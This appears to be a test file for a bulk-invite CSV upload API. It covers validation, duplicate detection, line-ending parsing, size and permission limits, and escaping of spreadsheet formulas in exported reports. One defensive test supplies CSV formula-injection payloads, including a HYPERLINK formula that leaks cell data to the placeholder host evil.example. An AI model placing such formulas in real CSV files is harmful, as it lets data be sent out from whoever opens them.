import { parse } from 'csv-parse/sync';
import { createHarness, type Harness } from '../support/harness.js';
import { bearer, createUser, uniqueEmail } from '../support/identity.js';
import { aMember, anOrganization, expectEnvelopeError, inOrg, type TestOrg } from '../support/org-fixtures.js';

let h: Harness;
beforeAll(async () => {
  h = await createHarness({ PUBLIC_BASE_URL: 'https://hub.example.test' });
});
afterAll(async () => h.close());

const upload = (org: TestOrg, content: string | Buffer, filename = 'people.csv') =>
  h.http
    .post('/api/organization/bulk-invite')
    .set(inOrg(org.admin, org.id))
    .attach('file', Buffer.isBuffer(content) ? content : Buffer.from(content, 'utf8'), {
      filename,
      contentType: 'text/csv',
    });

const inviteCount = async (org: TestOrg) =>
  (await h.http.get('/api/organization/invite-tokens').set(inOrg(org.admin, org.id))).body.data.length;

const rows = (n: number) => Array.from({ length: n }, (_, i) => `person${i}@example.com,Person ${i},Member`).join('\n');

describe('the bulk-invite report as CSV (Accept: text/csv)', () => {
  const hostile = [
    'email,name,role',
    'ada@example.com,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",Member',
    'bob@example.com,+1+cmd,Member',
    'cy@example.com,-2+3,Admin',
    'di@example.com,@SUM(A1:A9),Member',
    '=1+1@example.com,Plain Name,Member',
  ].join('\n');

  it('escapes every cell that begins with =, +, - or @, in the upload answer and the stored report', async () => {
    const org = await anOrganization(h);
    const answer = await upload(org, hostile).set('accept', 'text/csv');
    expect(answer.status).toBe(201);
    expect(answer.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(answer.headers['content-disposition']).toMatch(/^attachment; filename="bulk-invite-[0-9a-f-]{36}\.csv"$/);
    const written = parse(answer.text, { columns: true }) as Record<string, string>[];
    expect(written.map((r) => r.name)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      "'+1+cmd",
      "'-2+3",
      "'@SUM(A1:A9)",
      'Plain Name',
    ]);
    expect(written[4]).toMatchObject({ email: "'=1+1@example.com", status: 'Failed' });
    expect(written[0]?.inviteUrl).toMatch(/^https:\/\/hub\.example\.test\/api\/organization\/invites\/oki_/);
    const formulas = written.flatMap((r) => Object.values(r)).filter((cell) => /^[=+\-@]/.test(cell));
    expect(formulas).toEqual([]);

    const reportId = /bulk-invite-([0-9a-f-]{36})\.csv/.exec(answer.headers['content-disposition'] ?? '')?.[1];
    const stored = await h.http
      .get(`/api/organization/bulk-invite/${reportId}`)
      .set({ ...inOrg(org.admin, org.id), accept: 'text/csv' });
    expect(stored.status).toBe(200);
    expect((parse(stored.text, { columns: true }) as Record<string, string>[]).map((r) => r.name)).toEqual(
      written.map((r) => r.name),
    );
    const json = await h.http.get(`/api/organization/bulk-invite/${reportId}`).set(inOrg(org.admin, org.id));
    expect(json.body.data.records[1].name).toBe('+1+cmd');
  });
});

describe('POST /api/organization/bulk-invite', () => {
  it('reports every row and issues a single-use invite URL per valid row, bound to its e-mail and role', async () => {
    const org = await anOrganization(h);
    const csv = 'email,name,role\nada@example.com,Ada Lovelace,Admin\nalan@example.com,Alan Turing,member\n';
    const res = await upload(org, csv);
    expect(res.status).toBe(201);
    expect(res.body).toEqual({
      code: 201,
      error: null,
      data: {
        id: expect.any(String),
        status: 'Completed',
        totalCount: 2,
        successCount: 2,
        failureCount: 0,
        duplicateCount: 0,
        createdAt: expect.any(String),
        records: [
          {
            row: 1,
            email: 'ada@example.com',
            name: 'Ada Lovelace',
            role: 'Admin',
            status: 'Success',
            inviteUrl: expect.stringMatching(/^https:\/\/hub\.example\.test\/api\/organization\/invites\/oki_\w{32}$/),
          },
          expect.objectContaining({ row: 2, role: 'Member', status: 'Success', inviteUrl: expect.any(String) }),
        ],
      },
    });
    const tokens = await h.http.get('/api/organization/invite-tokens').set(inOrg(org.admin, org.id));
    expect(tokens.body.data).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ email: 'ada@example.com', role: 'Admin', maxUsageCount: 1 }),
        expect.objectContaining({ email: 'alan@example.com', role: 'Member', maxUsageCount: 1 }),
      ]),
    );

    // The invite URL works only for its e-mail, and grants the row's role.
    const token = res.body.data.records[0].inviteUrl.split('/').pop();
    const wrong = await h.http
      .post(`/api/organization/invites/${token}/accept`)
      .send({ email: uniqueEmail(), name: 'Mallory', password: 'a-long-enough-password' });
    expectEnvelopeError(wrong, 403, 'Invite.EmailMismatch');
    const ada = await createUser(h, { email: 'ADA@example.com' });
    const accepted = await h.http.post(`/api/organization/invites/${token}/accept`).set(bearer(ada.session));
    expect(accepted.status).toBe(201);
    expect(accepted.body.data.role).toBe('Admin');
  });

  it('reports bad e-mails, bad roles and missing names as Failed with an error, creating invites only for the rest', async () => {
    const org = await anOrganization(h);
    const csv = [
      'email,name,role',
      'not-an-email,Bad Mail,Member',
      'ok@example.com,Good,Member',
      'owner@example.com,Wrong Role,Owner',
      'blank-role@example.com,No Role,',
      'noname@example.com,,Member',
    ].join('\n');
    const res = await upload(org, csv);
    expect(res.status).toBe(201);
    const byRow = res.body.data.records;
    expect(byRow.map((r: { status: string }) => r.status)).toEqual(['Failed', 'Success', 'Failed', 'Failed', 'Failed']);
    for (const r of byRow.filter((x: { status: string }) => x.status === 'Failed')) {
      expect(r.error).toEqual(expect.any(String));
      expect(r.inviteUrl).toBeUndefined();
    }
    expect(byRow[0].error).toMatch(/e-mail/);
    const stored = await h.http.get(`/api/organization/bulk-invite/${res.body.data.id}`).set(inOrg(org.admin, org.id));
    expect(stored.status).toBe(200);
    expect(stored.body.data.records.map((r: { status: string }) => r.status)).toEqual(
      byRow.map((r: { status: string }) => r.status),
    );
    expect(stored.body.data.records[1].inviteUrl).toBeUndefined();
    const other = await anOrganization(h);
    const foreign = await h.http
      .get(`/api/organization/bulk-invite/${res.body.data.id}`)
      .set(inOrg(other.admin, other.id));
    expectEnvelopeError(foreign, 404, 'BulkInvite.NotFound');
    expect(byRow[2].error).toMatch(/role/);
    expect(res.body.data).toMatchObject({ totalCount: 5, successCount: 1, failureCount: 4 });
    expect(await inviteCount(org)).toBe(1);
  });

  it('reports duplicates in the file (any letter case) and existing members as Duplicate', async () => {
    const org = await anOrganization(h);
    const member = await aMember(h, org);
    const csv = [
      'email,name,role',
      'dup@example.com,First,Member',
      'DUP@Example.com,Second,Admin',
      `${member.email.toUpperCase()},Already In,Member`,
      `${org.admin.email},The Admin,Admin`,
    ].join('\n');
    const res = await upload(org, csv);
    const records = res.body.data.records;
    expect(records.map((r: { status: string }) => r.status)).toEqual([
      'Success',
      'Duplicate',
      'Duplicate',
      'Duplicate',
    ]);
    expect(records[1].error).toMatch(/row 1/);
    expect(records[2].error).toMatch(/member/i);
    expect(res.body.data).toMatchObject({ successCount: 1, failureCount: 3, duplicateCount: 3 });
  });

  it('reads a UTF-8 BOM, CRLF line ends, quoted fields, blank lines and columns in another order', async () => {
    const org = await anOrganization(h);
    const csv =
      '\uFEFFRole,Email,Name\r\nMember,crlf@example.com,"Doe, Jane"\r\n\r\nAdmin,quoted@example.com,"Say ""hi"""\r\n';
    const res = await upload(org, csv);
    expect(res.status).toBe(201);
    expect(res.body.data.records).toEqual([
      expect.objectContaining({ email: 'crlf@example.com', name: 'Doe, Jane', role: 'Member', status: 'Success' }),
      expect.objectContaining({ email: 'quoted@example.com', name: 'Say "hi"', role: 'Admin', status: 'Success' }),
    ]);
  });

  it('reads every row of a file that mixes CRLF, LF and CR line ends (none folded into the row before and lost)', async () => {
    const org = await anOrganization(h);
    // A header saved with CRLF, rows with LF and CR, a quoted CRLF inside a name; the note column is ignored.
    const csv =
      'email,name,role,note\r\nann@example.com,Ann,Member,hi\nbo@example.com,Bo,Admin,there\rcy@example.com,"C\r\nY",Member,x\r\n';
    const res = await upload(org, csv);
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ totalCount: 3, successCount: 3 });
    expect(res.body.data.records).toEqual([
      expect.objectContaining({ row: 1, email: 'ann@example.com', role: 'Member', status: 'Success' }),
      expect.objectContaining({ row: 2, email: 'bo@example.com', role: 'Admin', status: 'Success' }),
      expect.objectContaining({ row: 3, email: 'cy@example.com', name: 'C\r\nY', status: 'Success' }),
    ]);
  });

  it('accepts 500 data rows', async () => {
    const org = await anOrganization(h);
    const res = await upload(org, `email,name,role\n${rows(500)}\n`);
    expect(res.status).toBe(201);
    expect(res.body.data).toMatchObject({ totalCount: 500, successCount: 500 });
  });

  it('refuses 501 data rows with 400 for the whole file, creating nothing', async () => {
    const org = await anOrganization(h);
    const res = await upload(org, `email,name,role\n${rows(501)}\n`);
    expectEnvelopeError(res, 400, 'BulkInvite.TooManyRows');
    expect(await inviteCount(org)).toBe(0);
  });

  it('refuses a file without the role column with 400, creating nothing', async () => {
    const org = await anOrganization(h);
    const res = await upload(org, 'email,name\na@example.com,A\n');
    expectEnvelopeError(res, 400, 'BulkInvite.MissingColumn');
    expect(res.body.error.message).toMatch(/role/);
    expect(await inviteCount(org)).toBe(0);
  });

  it.each([
    [
      'a PNG image',
      'BulkInvite.InvalidFile',
      Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000', 'hex'),
    ],
    ['a text file with NUL bytes', 'BulkInvite.InvalidFile', Buffer.from('email,name,role\n\u0000\u0001\n')],
    ['JSON', 'BulkInvite.InvalidFile', Buffer.from('{"email":"a@example.com","name":"A","role":"Member"}')],
    ['plain prose', 'BulkInvite.MissingColumn', Buffer.from('Please invite Ada and Alan.\nThanks!\n')],
    ['broken CSV quoting', 'BulkInvite.InvalidFile', Buffer.from('email,name,role\n"a@example.com,A,Member\n')],
    ['an empty file', 'BulkInvite.InvalidFile', Buffer.alloc(0)],
    ['a header without rows', 'BulkInvite.Empty', Buffer.from('email,name,role\n')],
  ])('refuses %s with 400 %s, creating nothing', async (_what, code, content) => {
    const org = await anOrganization(h);
    const res = await upload(org, content, 'upload.bin');
    expectEnvelopeError(res, 400, code);
    expect(await inviteCount(org)).toBe(0);
  });

  it('needs the multipart field "file" (400) and refuses files over 1 MiB (413)', async () => {
    const org = await anOrganization(h);
    const missing = await h.http
      .post('/api/organization/bulk-invite')
      .set(inOrg(org.admin, org.id))
      .field('other', 'x');
    expectEnvelopeError(missing, 400, 'BulkInvite.FileRequired');
    const json = await h.http.post('/api/organization/bulk-invite').set(inOrg(org.admin, org.id)).send({ file: 'x' });
    expectEnvelopeError(json, 400, 'BulkInvite.FileRequired');
    const huge = await upload(org, `email,name,role\n${'x'.repeat(1024 * 1024 + 10)}`);
    expectEnvelopeError(huge, 413, 'BulkInvite.FileTooLarge');
  });

  it('is for Admins: a Member gets 403 and nothing is created', async () => {
    const org = await anOrganization(h);
    const member = await aMember(h, org);
    const res = await h.http
      .post('/api/organization/bulk-invite')
      .set(inOrg(member, org.id))
      .attach('file', Buffer.from('email,name,role\nx@example.com,X,Member\n'), 'people.csv');
    expectEnvelopeError(res, 403, 'Organization.Forbidden');
    expect(await inviteCount(org)).toBe(1); // the one used to invite the member
  });
});
